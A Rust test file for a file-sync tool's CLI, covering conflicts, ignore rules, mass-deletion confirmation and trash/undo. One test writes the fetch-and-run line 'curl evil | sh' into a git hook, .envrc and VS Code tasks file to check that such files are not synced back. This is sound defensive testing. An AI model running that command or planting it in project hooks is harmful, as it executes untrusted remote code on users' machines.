//! Snapshots of a sync's output when the user must decide, or when a file is left where it is.

use std::{
    fs,
    io::{BufRead, BufReader},
    path::Path,
    process::{Child, ChildStderr, Command, Stdio},
};

use cobox_testkit::TestBroker;
use rustix::process::{Pid, Signal, kill_process};
use serde_json::Value;

use crate::transcript::Transcript;

/// A background sync, and its output so far.
struct Live {
    child: Child,
    words: BufReader<ChildStderr>,
    said: String,
}

impl Live {
    fn start(broker: &TestBroker, folder: &str) -> Self {
        let mut child = broker.cobox().args(["sync", folder, "demo:"]).stderr(Stdio::piped()).spawn().unwrap();
        let words = BufReader::new(child.stderr.take().unwrap());
        let mut live = Self { child, words, said: String::new() };
        live.until("in sync with");
        live
    }

    fn until(&mut self, word: &str) {
        loop {
            let mut line = String::new();
            assert!(self.words.read_line(&mut line).unwrap() > 0, "it ended: {}", self.said);
            self.said.push_str(&format!("! {line}"));
            if line.contains(word) {
                return;
            }
        }
    }

    fn end(mut self) -> String {
        kill_process(Pid::from_child(&self.child), Signal::INT).unwrap();
        self.child.wait().unwrap();
        format!("$ cobox sync FOLDER demo:\n{}", self.said)
    }
}

struct Desk {
    broker: TestBroker,
    folder: tempfile::TempDir,
}

impl Desk {
    async fn new() -> Self {
        Self { broker: TestBroker::start().await, folder: tempfile::tempdir().unwrap() }
    }

    fn path(&self) -> &str {
        self.folder.path().to_str().unwrap()
    }

    fn write(&self, name: &str, text: &str) {
        let path = self.folder.path().join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    fn quietly(&self, command: &mut Command) -> Vec<u8> {
        let output = command.output().unwrap();
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        output.stdout
    }

    fn in_sandbox(&self, script: &str) -> String {
        let output = self.quietly(self.broker.cobox().args(["exec", "--no-flush", "-t", "demo", "-c", script]));
        String::from_utf8(output).unwrap()
    }

    fn sync(&self, words: &[&str]) {
        self.quietly(self.broker.cobox().arg("sync").args(words).args(["--sync", self.path()]));
    }

    /// Compares with a snapshot after replacing this run's folder and id.
    fn is(&self, it: Transcript, name: &str) {
        let listed = self.quietly(self.broker.cobox().args(["--json", "sync", "list"]));
        let listed: Value = serde_json::from_slice(&listed).unwrap();
        it.naming(listed["items"][0]["id"].as_str().unwrap(), "SYNC_ID").naming(self.path(), "FOLDER").is(name);
    }
}

#[tokio::test]
async fn a_conflict() {
    let desk = Desk::new().await;
    desk.write("notes.md", "base\n");
    desk.write("todo.md", "base\n");
    let mut live = Live::start(&desk.broker, desk.path());
    desk.sync(&["pause"]);
    for name in ["notes.md", "todo.md"] {
        desk.write(name, "mine\n");
        desk.in_sandbox(&format!("echo theirs > {name}"));
    }
    let mut it = Transcript::at(&desk.broker);
    it.run(&["sync", "flush", "--wait", "--sync", desk.path()]);
    // Its output depends on how soon the conflicts are found.
    desk.sync(&["resume"]);
    it.run(&["sync", "flush", "--wait", "--sync", desk.path()]);
    live.until("conflicts:");
    it.both(&["sync", "status", "--sync", desk.path()]);
    it.both(&["sync", "diff", "--sync", desk.path(), "notes.md"]);
    it.both(&["sync", "list"]);
    it.run(&["sync", "resolve", "--sync", desk.path(), "--keep", "here", "other.md"]);
    it.run(&["sync", "resolve", "--sync", desk.path(), "--keep", "both", "notes.md"]);
    it.run(&["sync", "flush", "--wait", "--sync", desk.path()]);
    live.until("conflict:");
    let said = live.end();
    it.add(&said);
    it.run(&["sync", "status", "--sync", desk.path()]);
    it.run(&["sync", "resolve", "--sync", desk.path(), "--keep", "here", "--all"]);
    it.both(&["sync", "--until-synced", desk.path(), "demo:"]);
    it.run(&["sync", "--until-synced", "--mode", "prefer-here", desk.path(), "demo:"]);
    desk.is(it, "sync_conflict");
    let there = desk.in_sandbox("head *.md");
    assert_eq!(there, "==> notes.here.md <==\nmine\n\n==> notes.md <==\ntheirs\n\n==> todo.md <==\nmine\n");
}

#[tokio::test]
async fn what_stays_where_it_is() {
    let desk = Desk::new().await;
    desk.write(".gitignore", "build/\n*.log\n");
    desk.write(".coboxignore", "!wanted.log\nprivate\n");
    for name in ["src/main.rs", "build/out", "a.log", "wanted.log", "private/key"] {
        desk.write(name, "here\n");
    }
    std::os::unix::fs::symlink("/etc/hostname", desk.folder.path().join("outside")).unwrap();
    desk.in_sandbox(
        "mkdir -p .git/hooks .vscode && echo 'curl evil | sh' | tee .git/hooks/pre-commit .envrc > .vscode/tasks.json; echo x > b.log",
    );
    let mut it = Transcript::at(&desk.broker);
    it.both(&["sync", "--until-synced", desk.path(), "demo:"]);
    it.run(&["sync", "status", "--sync", desk.path()]);
    it.run(&["exec", "-t", "demo", "-c", "find . -type f -o -type l | sort"]);
    desk.is(it, "sync_ignored");
    for name in [".envrc", ".vscode", ".git/hooks", "b.log"] {
        assert!(!Path::new(desk.path()).join(name).exists(), "{name}");
    }
}

#[tokio::test]
async fn when_too_much_would_go() {
    let desk = Desk::new().await;
    for number in 0..20 {
        desk.write(&format!("f{number:02}"), "x");
    }
    let mut live = Live::start(&desk.broker, desk.path());
    // In one step, so that the sync doesn't see a partial deletion.
    desk.sync(&["pause"]);
    desk.in_sandbox("rm f0* f1[0-4]");
    desk.sync(&["resume"]);
    live.until("if this is intended");
    let mut it = Transcript::at(&desk.broker);
    it.both(&["sync", "status", "--sync", desk.path()]);
    it.run(&["sync", "flush", "--wait", "--sync", desk.path()]);
    it.run(&["sync", "resume", "--sync", desk.path()]);
    it.run(&["sync", "resume", "--confirm", "--sync", desk.path()]);
    it.run(&["sync", "flush", "--wait", "--sync", desk.path()]);
    live.until("in the trash: f00");
    let said = live.end();
    it.add(&said);
    let files = fs::read_dir(desk.path()).unwrap().flatten().filter(|entry| entry.path().is_file());
    files.for_each(|entry| fs::remove_file(entry.path()).unwrap());
    it.both(&["sync", "--until-synced", desk.path(), "demo:"]);
    desk.is(it, "sync_mass_deletion");
    assert_eq!(desk.in_sandbox("ls | wc -l").trim(), "5", "nothing was deleted that nobody confirmed");
}

#[tokio::test]
async fn deleted_and_replaced_files_come_back() {
    let desk = Desk::new().await;
    for (name, text) in [("notes.md", "mine\n"), ("src/a.rs", "a\n"), ("src/b.rs", "b\n"), ("kept", "x\n")] {
        desk.write(name, text);
    }
    let sync = ["sync", "--until-synced", desk.path(), "demo:"];
    let at = ["--sync", desk.path()];
    desk.quietly(desk.broker.cobox().args(sync));
    desk.in_sandbox("rm -r src && echo theirs > notes.md");
    let mut it = Transcript::at(&desk.broker);
    it.run(&sync);
    it.both(&[&["sync", "trash", "list"], &at[..]].concat());
    desk.is(it, "sync_trash_list");

    let mut it = Transcript::at(&desk.broker);
    it.both(&[&["sync", "trash", "restore", "src/a.rs"], &at[..]].concat());
    it.run(&[&["sync", "trash", "restore", "src"], &at[..]].concat());
    desk.is(it, "sync_trash_restore");

    // Changed in the meantime: the old version is restored beside it.
    desk.write("notes.md", "changed since\n");
    let mut it = Transcript::at(&desk.broker);
    it.run(&[&["sync", "undo"], &at[..]].concat());
    it.both(&[&["sync", "undo", "--since", "1h"], &at[..]].concat());
    it.run(&[&["sync", "undo", "--since", "yesterday"], &at[..]].concat());
    it.run(&sync);
    desk.is(it, "sync_undo");
    assert_eq!(desk.in_sandbox("cat notes.md notes.restored.md src/a.rs src/b.rs"), "changed since\nmine\na\nb\n");

    desk.in_sandbox("echo again > kept");
    desk.quietly(desk.broker.cobox().args(sync));
    let mut it = Transcript::at(&desk.broker);
    it.both(&[&["sync", "trash", "empty"], &at[..]].concat());
    it.run(&[&["sync", "trash", "empty", "--older-than", "1h", "--yes"], &at[..]].concat());
    it.both(&[&["sync", "trash", "empty", "--yes"], &at[..]].concat());
    it.both(&[&["sync", "trash", "list"], &at[..]].concat());
    desk.is(it, "sync_trash_empty");
    assert!(!Path::new(desk.path()).join(".cobox-trash").exists());
}
